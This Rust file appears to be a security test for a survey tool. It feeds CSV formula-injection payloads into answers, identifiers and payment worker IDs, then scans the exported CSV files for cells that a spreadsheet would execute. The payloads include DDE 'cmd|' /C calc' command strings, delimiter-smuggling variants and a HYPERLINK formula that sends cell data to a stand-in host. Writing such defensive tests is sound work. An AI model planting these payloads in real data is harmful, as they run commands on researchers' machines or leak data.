//! A spreadsheet executes an answer or an identifier that the researcher opens.

use crate::item::{Observed, Variant};
use crate::page::Page;
use crate::study::Study;
use crate::wire::messages::{Answer, Entry, StageView};
use crate::world::World;

pub(crate) const NAME: &str = "csv-formulas";
pub(crate) const TRIES: &str =
    "An answer or an identifier is a formula that a spreadsheet executes when the researcher opens a file.";

/// Cells that a spreadsheet takes for a formula.
const FORMULAS: [&str; 11] = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    // Where cells are separated by semicolons, or the file is split at line breaks.
    "because;=1+1;",
    "because\n@SUM(1+1);",
    "because\t+1+cmd|' /C calc'!A0",
    // A quotation mark that begins a cell there.
    "because;\"=1+1;b",
    "because\n\"=1+1",
];

pub(crate) async fn attack(world: &mut World, variant: &mut Variant) -> anyhow::Result<Observed> {
    let formula = variant.choose("formula", &FORMULAS);
    let place = variant.choose("in", &["answer", "identifier", "payment file"]);
    let mut study = Study::questions();
    if place == "payment file" {
        study.bonus = "1.0".to_owned();
        study.recruitment = "  provider: mturk\n  currency: USD\n  base: 1.00\n".to_owned();
    } else if place == "identifier" {
        study.recruitment = "  provider: parameters\n  parameters: {participant: pid, site: site}\n  currency: GBP\n  \
                             base: 1.00\n"
            .to_owned();
    }
    world.serve(&study, &[]).await?;
    let owned = |name: &str, value: &str| (name.to_owned(), value.to_owned());
    let query = match place {
        "answer" => World::query_of(&world.next_id()),
        "payment file" => vec![
            owned("workerId", formula),
            owned("assignmentId", "3TS1AR6UQQDJ7PL48N7PCRZO6T47F6"),
            owned("hitId", "3XJOUITW8URHJMX7F00H20LGRIAQTX"),
        ],
        _ => vec![owned("pid", formula), owned("site", formula)],
    };
    let mut page = Page::connect(&world.address()).await?;
    if let Some(why) = page.say_hello(Entry::Sent(query)).await? {
        return Ok(Observed::Held(format!("{formula:?} is refused: {why:?}")));
    }
    let (stage, _) = page.await_stage(|_| true).await?;
    let answer = Answer {
        name: "why".to_owned(),
        value: match place {
            "answer" => serde_json::Value::from(formula).to_string(),
            _ => "\"because\"".to_owned(),
        },
    };
    page.finish(stage, vec![answer]).await?;
    page.await_stage(|view| matches!(view, StageView::End { .. })).await?;
    drop(page);
    world.stop().await?;
    world.table("sessions").await?;
    let (data, named) = (world.data(), world.path("tables with identifiers"));
    let (data, out) = (data.to_string_lossy(), named.to_string_lossy());
    let arguments = ["export", "--data", &data, "--out", &out, "--with-identifiers"];
    let exported = world.coplay(&arguments).await?;
    let sessions = std::fs::read_to_string(named.join("sessions.csv")).unwrap_or_default();
    anyhow::ensure!(
        sessions.contains("recruiter_participant"),
        "no identifiers in sessions.csv: {}",
        String::from_utf8_lossy(&exported.stderr)
    );
    let mut folders = vec![world.path("tables"), named];
    if place != "answer" {
        let (data, folder) = (world.data(), world.path("payments"));
        std::fs::create_dir_all(&folder)?;
        for format in ["prolific", "mturk", "plain"] {
            let out = folder.join(format!("{format}.csv"));
            let (data, out) = (data.to_string_lossy(), out.to_string_lossy());
            world.coplay(&["pay", "--data", &data, "--csv", format, "--out", &out]).await?;
        }
        folders.push(folder);
    }
    let mut found = Vec::new();
    let mut files = 0;
    for folder in folders {
        for file in std::fs::read_dir(folder)? {
            let path = file?.path();
            files += 1;
            let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
            let text = std::fs::read(&path)?;
            let live = [b',', b';', b'\t'].map(|split| find_live(&text, split));
            found.extend(live.into_iter().flatten().map(|cell| format!("{name}: {cell:?}")));
        }
    }
    let seen = format!("in {files} files, cells that a spreadsheet executes: {found:?}");
    Ok(Observed::broken_if(!found.is_empty(), seen))
}

/// A cell that a spreadsheet executes which splits the file there, or at every line break and quotation mark too.
fn find_live(text: &[u8], split: u8) -> Option<String> {
    let is_live = |cell: &str| {
        let cell = cell.trim_start_matches(' ');
        cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
    };
    let mut reader = csv::ReaderBuilder::new();
    let mut reader = reader.has_headers(false).flexible(true).delimiter(split).from_reader(text);
    let records = reader.byte_records().map_while(Result::ok);
    let mut cells = records.flat_map(|record| {
        let cells = record.iter().map(|cell| String::from_utf8_lossy(cell).into_owned());
        cells.collect::<Vec<_>>()
    });
    let live = cells.find(|cell| cell.split([';', '\n', '\r', '\t']).any(is_live));
    if split == b',' {
        return live;
    }
    // A program that knows no quotes around line breaks.
    let lines = text.split(|byte| *byte == b'\n' || *byte == b'\r');
    let mut parts = lines.flat_map(|line| line.split(|byte| *byte == split));
    let bare = parts.find_map(|part| {
        let part = String::from_utf8_lossy(part).into_owned();
        let cell = part.strip_prefix('"').unwrap_or(&part).to_owned();
        let cell = cell.strip_prefix("\"\"").map_or(cell.clone(), str::to_owned);
        is_live(&cell).then_some(cell)
    });
    live.or(bare)
}
